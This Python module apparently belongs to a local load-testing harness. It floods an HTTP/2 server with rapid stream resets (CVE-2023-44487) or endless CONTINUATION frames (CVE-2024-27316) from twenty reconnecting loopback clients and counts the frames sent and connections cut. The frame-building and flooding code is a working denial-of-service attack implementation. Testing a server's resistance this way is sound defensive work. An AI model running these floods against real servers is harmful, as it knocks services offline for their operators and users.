"""Frames of HTTP/2 at a planned rate: ``python -m bench.siege.frames TARGET KIND RATE SECONDS``.

``reset`` opens streams and resets them at once (CVE-2023-44487), ``continuation`` sends a header
block without an end (CVE-2024-27316 and its like). Twenty clients with an address each; who is cut
off comes back. Prints how many frames were sent and how often a connection was opened and cut.
"""

import asyncio
import json
import logging
import sys
import time
from collections import Counter
from collections.abc import Callable, Mapping
from typing import Final

import hpack

from bench.siege.target import APP, Target

CLIENTS: Final = 20
NETWORK: Final = 30
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RST_STREAM, CONTINUATION = 4, 1, 3, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL: Final = (8).to_bytes(4, "big")

_BLOCK: Final = hpack.Encoder().encode(
    [
        (b":method", b"GET"),
        (b":scheme", b"https"),
        (b":authority", APP.encode()),
        (b":path", b"/public/page"),
    ]
)
_MORE: Final = b"".join(b"\x00\x07x-%05d\x7f\x81\x01" % number + b"y" * 256 for number in range(4))
"""Literal fields without indexing (RFC 7541 section 6.2.2), whose values have 256 bytes."""


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame (RFC 9113 section 4.1)."""
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags))
    return head + stream.to_bytes(4, "big") + payload


class Client(asyncio.Protocol):
    """A connection that is only written to."""

    def __init__(self) -> None:
        self.closed, self.sent = False, 0

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """It is open."""
        assert isinstance(transport, asyncio.Transport)
        self._transport = transport
        transport.write(PREFACE + frame(SETTINGS, 0, 0, b""))

    def connection_lost(self, exc: Exception | None) -> None:
        """It is not any more."""
        del exc
        self.closed = True

    def write(self, data: bytes) -> None:
        """Send something, unless what was sent before is still here."""
        if not self.closed and self._transport.get_write_buffer_size() < 1024**2:
            self.sent += 1
            self._transport.write(data)


def reset(client: Client) -> bytes:
    """A stream that is reset as soon as it is open."""
    stream = 2 * client.sent + 1
    opened = frame(HEADERS, END_STREAM | END_HEADERS, stream, _BLOCK)
    return opened + frame(RST_STREAM, 0, stream, CANCEL)


def continuation(client: Client) -> bytes:
    """A part of a header block, which is never the last one."""
    if client.sent == 0:
        return frame(HEADERS, END_STREAM, 1, _BLOCK)
    return frame(CONTINUATION, 0, 1, _MORE)


KINDS: Final[Mapping[str, Callable[[Client], bytes]]] = {
    "reset": reset,
    "continuation": continuation,
}


async def _all(target: Target, kind: str, rate: float, seconds: float) -> Counter[str]:
    seen, trust, make = Counter[str](), target.trust("h2"), KINDS[kind]
    loop = asyncio.get_running_loop()

    async def one(number: int) -> None:
        client: Client | None = None
        begun, sent = time.monotonic(), 0.0
        while (passed := time.monotonic() - begun) < seconds:
            if client is not None and client.closed:
                seen["sent"] += client.sent
                seen["connections cut off"] += 1
                client = None
            if client is None:
                try:
                    async with asyncio.timeout(5):
                        _, client = await loop.create_connection(
                            Client,
                            "127.0.0.1",
                            target.port,
                            ssl=trust,
                            server_hostname=APP,
                            local_addr=(f"127.{NETWORK}.{number}.1", 0),
                        )
                    seen["connections opened"] += 1
                except OSError:  # TimeoutError among them
                    seen["connections refused"] += 1
                    await asyncio.sleep(0.1)
                    continue
            while not client.closed and sent < passed * rate / CLIENTS:
                client.write(make(client))
                sent += 1
            await asyncio.sleep(0.02)
        seen["sent"] += client.sent if client is not None else 0

    await asyncio.gather(*(one(number) for number in range(CLIENTS)))
    return seen


if __name__ == "__main__":
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # that servers hang up is no news
    told = Target.from_json(sys.argv[1])
    print(json.dumps(asyncio.run(_all(told, sys.argv[2], float(sys.argv[3]), float(sys.argv[4])))))
